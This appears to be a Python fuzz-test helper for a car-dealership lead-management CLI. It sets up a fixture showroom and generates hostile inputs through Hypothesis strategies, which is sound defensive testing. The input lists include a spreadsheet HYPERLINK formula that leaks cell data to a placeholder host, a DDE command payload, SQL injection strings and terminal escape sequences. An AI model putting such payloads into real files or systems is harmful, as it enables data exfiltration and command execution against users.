"""What the fuzz tests share (issue 17, point 8): a showroom with a card in every state, every
command of the program as typer builds it, and the values staff and attackers type."""

from __future__ import annotations

import functools
import sqlite3
from contextlib import closing
from pathlib import Path

from conftest import Leadcard, empty_store, sales_floor

# The people of `sales_floor`, one of each role, another team's consultant, and nobody.
ROLES = ("王芳", "钱主管", "赵经理", "孙丽")
CARDS = ("A00001", "A00002", "A00003", "A00004", "A00005", "A00006")


def showroom(path: Path) -> Leadcard:
    """The usual floor with a card in every state: 张三 (王芳's, followed up, instructed, quoted),
    李四 (李强's, loss requested), 王五 (孙丽's, ordered), 赵六 (王芳's, delivered), 钱七 (王芳's,
    lost), 周八 (李强's, invalid); a visit with no card, targets, an objection with its script and a
    teaching case."""
    lc = empty_store(path)
    sales_floor(lc)
    lc.now = "2026-04-20T10:00:00"
    for name, phone, owner in (("张三", "13800138000", "王芳"), ("李四", "13900139000", "李强"),
                               ("王五", "13700137000", "孙丽"), ("赵六", "13600136000", "王芳"),
                               ("钱七", "13500135000", "王芳"), ("周八", "13300133000", "李强")):
        lc.ok("add", name, "--phone", phone, "--owner", owner, "--grade", "A", "--model", "凯美瑞",
              "--left", "2026-04-20 09:30")
        lc.ok("log", name, "--channel", "wechat", "--content", "感谢到店", user=owner, now="2026-04-20T10:30:00")
    lc.ok("log", "张三", "--channel", "phone", "--content", "确认预算", "--next", "2026-05-02", "--objection",
          "price", "--bottleneck", "价格", user="王芳", now="2026-04-21T10:00:00")
    lc.ok("comment", "张三", "周末邀约试驾", user="钱主管", now="2026-04-21T12:00:00")
    lc.ok("quote", "张三", "--price", "199800", "--discount", "8000", user="王芳", now="2026-04-22T10:00:00")
    lc.ok("trade-in", "张三", "--vehicle", "朗逸", "--appraisal", "4.2万", user="王芳", now="2026-04-22T10:00:00")
    lc.ok("finance", "张三", "--status", "applied", "--bank", "工行", "--amount", "15万", user="王芳",
          now="2026-04-22T10:00:00")
    lc.ok("lose", "李四", "--reason", "competitor", "--competitor", "雅阁", user="李强", now="2026-04-23T10:00:00")
    lc.ok("win", "王五", "--price", "185000", "--deposit", "5000", "--delivery", "2026-05-20", user="孙丽",
          now="2026-04-24T10:00:00")
    lc.ok("win", "赵六", "--price", "185000", user="王芳", now="2026-04-24T10:00:00")
    lc.ok("deliver", "赵六", "--at", "2026-04-25 10:00", user="王芳", now="2026-04-25T11:00:00")
    lc.ok("lose", "钱七", "--reason", "price", user="王芳", now="2026-04-25T10:00:00")
    lc.ok("approve", "钱七", user="钱主管", now="2026-04-25T12:00:00")
    lc.ok("invalid", "周八", "--reason", "空号", user="钱主管", now="2026-04-25T12:00:00")
    lc.ok("visit", "add", "--at", "2026-05-01 10:00", "--left", "2026-05-01 11:00", "--name", "孙九",
          "--phone", "13200132000", user="王芳", now="2026-05-01T12:00:00")
    lc.ok("target", "set", "王芳", "--orders", "5", "--month", "2026-05", now="2026-04-26T10:00:00")
    lc.ok("playbook", "add", "price", "算五年用车成本", user="钱主管")
    lc.ok("case", "add", "钱七", "--lesson", "先试驾再谈价", user="钱主管")
    lc.now = "2026-05-03T10:00:00"
    lc.user = None
    return lc


def copy_of(original: Leadcard, directory: Path) -> Leadcard:
    """The store copied into `directory`: each example runs on a store of its own."""
    directory.mkdir(parents=True, exist_ok=True)
    copy = Leadcard(copy_store(original.db, directory / original.db.name))
    copy.now = original.now
    return copy


def copy_store(source: Path, target: Path) -> Path:
    """A whole copy, what is still in the write-ahead log included."""
    with closing(sqlite3.connect(source)) as old, closing(sqlite3.connect(target)) as new:
        old.backup(new)
    return target


# -- the program's commands, as typer builds them -----------------------------------------------------------------


def commands() -> dict[str, object]:
    """Every command of the program by its words (`visit add`): a command added to
    COMMAND_MODULES is fuzzed without a line here."""
    import typer

    from leadcard.commands.app import build_app

    found = {}

    def walk(command, words):
        if hasattr(command, "commands"):  # a group: `user`, `visit`, `report` …
            for name, sub in command.commands.items():
                walk(sub, (*words, name))
        else:
            found[" ".join(words)] = command

    walk(typer.main.get_command(build_app()), ())
    return found


# -- what people type ---------------------------------------------------------------------------------------------


@functools.cache
def _values():
    from hypothesis import strategies as st

    from leadcard.domain.audit import RULES
    from leadcard.model import Channel, Outcome, Role, Source, Status

    markup = ["[/]", "李[/]", "[link=http://x]y[/link]", "[bold red]红", "[red]小王[/red]", ":smile:", "[", "]",
              "\\[b]", "[b]ZQ[/b]"]
    formulas = ['=HYPERLINK("http://x/?leak="&C2,"y")', "=cmd|' /C calc'!A0", "=1+1", "+86 138", "-价格",
                "@SUM(A1)", "'=1+1", "''+2", "\t=1"]
    controls = ["\x00", "\x1b[31m红", "\x07", "\x9b2J", "\x7f", "\r", "\r\n", "\n", "\t", "\u202e逆序", "\u2028",
                "\ufeff"]
    # Bytes of a GBK terminal (张三), and bytes that are no text at all, as Python hands them over.
    undecoded = ["\udcd5\udcc5\udcc8\udcfd", "\udcff\udcfe\udc80"]
    odd = ["", " ", "　", "-", "--", "-h", "--help", "--json", "--as=赵经理", "%s", "{}", "{name}", "\\",
           "'; DROP TABLE cards; --", "' OR 1=1 --", "😀", "𠮷", "ＡＢＣ", "null", "None", "NaN", "0", "-1",
           "9" * 400, "长" * 5000, "x" * 70_000]
    # The words an option of a fixed list takes, with a few it does not.
    choices = {
        "channel": [*Channel, "电话", "微信", "fax"], "outcome": [*Outcome, "won", "接通"],
        "status": [*Status, "applied", "approved", "rejected", "closed"],
        "reason": ["price", "competitor", "postponed", "financing", "unreachable", "bought-elsewhere", "other", "价格",
                   "竞品品牌", "贷款未过", "空号", "whatever"],
        "format": ["csv", "xlsx", "json", "md", "table", "pdf", "CSV"], "role": [*Role, "boss", "经理"],
        "source": [*Source, "展厅", "来电", "网络", "街上"], "rule": [*(r.name for r in RULES), "all", "no-such-rule"],
        "level": ["error", "warning", "info", "none", "fatal"], "policy": ["habc", "abc", "four-tier", "HABC", "xyz"],
        "shell": ["bash", "zsh", "fish", "powershell", "cmd"], "map": ["H=A", "A=B,B=C", "H=Z", "H=A,H=B", "=", ","],
        "tag": ["price", "delivery", "range", "brand", "new-tag", "价格", "Price"],
        "login": ["root", "nobody", "wang", "0", ""],
        "field": ["男", "女", "全款", "贷款", "首购", "增购", "换购", "家用", "一组", "二组", "x"],
    }
    words = sorted({word for listed in choices.values() for word in listed})
    dates = ["2026-05-03", "2026-5-3", "2026/05/03", "2026.05.03", "2026年5月3日", "5月3日", "5-3", "12-31",
             "today", "今天", "明天", "后天", "大后天", "yesterday", "昨天", "+3d", "+3天", "+2w", "+2周", "-5d", "+0d",
             "friday", "周五", "星期五", "下周一", "本周五", "下周八", "周", "明天 15:30", "周六 10:00", "15:30", "24:00",
             "明天下午3点半", "今晚8点", "明天3点", "晚上12点", "十两点", "下下周一", "上周五", "12.5", "下个月5号", "月底", "5号",
             "25:61", "9999-12-31", "9999-12-31 23:59", "1899-12-31", "1900-01-01", "2199-12-31", "2200-01-01",
             "+9999w", "+99999999999999999999d", "2026-02-29", "2028-02-29", "2026-02-30", "2026-13-01",
             "2026-00-00", "0000-01-01", "2026-05-03T10:00:00+08:00", "2026-05-03 23:59:59.999", "13月", "02-29",
             "3月15日", "1990-03-15", "2026-W19", "2026-05", "昨天 25:00"]
    periods = ["2026-W19", "2026-W1", "2026-W00", "2026-W53", "2025-W53", "2026-W99", "1899-W01", "2200-W01",
               "2026-05", "2026-5", "2026-00", "2026-13", "0001-01", "9999-12", "1900-01", "2199-12", "本月", "上周"]
    phones = ["13800138000", "138-0013-8000", "+86 138 0013 8000", "13900139000", "13200132000", "010-12345678",
              "12345", "1" * 40, "１３８００１３８０００", "+", "00000000000", "13800138000x", "138 0013 8000 转 8"]
    grades = ["H", "A", "B", "C", "h", "重点", "意向", "key", "dormant", "Z", "AA", "Ｈ", "O", "F"]
    money = ["199800", "19.98万", "0", "-1", "1e309", "nan", "inf", "-inf", "99999999999999999999", "1.5", "0.001",
             "万", "19.98万万", "１９万", "1,000", "¥5000", "5000元"]
    people = [*ROLES, "李强", "无此人", "赵经理 ", "Wang", "售后顾问", "一组", "二组"]
    refs = [*CARDS, "A99999", "A0", "a00001", "张三", "李四", "王五", "赵六", "13800138000", "138", "孙九"]
    sampled = st.sampled_from
    text = st.text(max_size=40)
    nasty = sampled(markup + formulas + controls + undecoded + odd)
    any_text = st.one_of(nasty, sampled(words), text, st.tuples(text, nasty, text).map("".join))
    kinds = {
        **{kind: sampled(listed) for kind, listed in choices.items()},
        "date": sampled(dates), "period": sampled(periods), "phone": sampled(phones), "grade": sampled(grades),
        "money": sampled(money), "person": sampled(people), "ref": sampled(refs),
        "number": st.one_of(sampled(["", "abc", "1.5", "１２", "1e3", "0x10", " 3", "-0"]),
                            st.integers(-2**70, 2**70).map(str), st.integers(-3, 30).map(str)),
    }
    return st, any_text, kinds


# Which values an option takes, by its name: all of these are plain strings to typer.
KINDS = {
    "date": {"at", "next", "next_", "date", "date_", "since", "left", "delivery", "handover_at", "valid_until", "birthday"},
    "period": {"week", "month"},
    "phone": {"phone"},
    "grade": {"grade", "new_grade"},
    "money": {"price", "discount", "amount", "appraisal", "deposit", "budget", "income"},
    "person": {"owner", "user", "to", "from_", "from", "consultant", "handover_to", "reassign_to", "acting", "name"},
    "ref": {"ref", "referred_by"},
    "channel": {"channel"}, "outcome": {"outcome"}, "status": {"status"}, "reason": {"reason"},
    "format": {"format", "format_", "fmt"}, "role": {"role"}, "source": {"source"}, "rule": {"rule", "ignore", "explain"},
    "level": {"fail_on"}, "policy": {"policy"}, "shell": {"shell"}, "map": {"map", "grade_map"},
    "tag": {"tag", "objection"}, "login": {"login"},
    "field": {"gender", "payment", "purchase_type", "team", "use"},
}


def values_for(param, paths: list[str]):
    """A strategy for one parameter's value: its own kind's values (dates in every form and none,
    phones, grades, amounts, people, cards), numbers at and past its bounds, paths (the store among
    them), and hostile text of every sort."""
    st, any_text, kinds = _values()
    if param.type.name == "path":
        return st.sampled_from(paths)
    if param.type.name in ("integer", "integer range", "int", "int range"):
        bounds = [b + d for b in (param.type.__dict__.get("min"), param.type.__dict__.get("max")) if b is not None
                  for d in (-1, 0, 1)]
        return st.one_of(st.sampled_from(bounds) if bounds else kinds["number"], kinds["number"]).map(str)
    kind = next((k for k, names in KINDS.items() if param.name in names), None)
    # Mostly values of the option's kind, to reach past the first check; hostile text the rest.
    return st.one_of(kinds[kind], kinds[kind], any_text) if kind else any_text
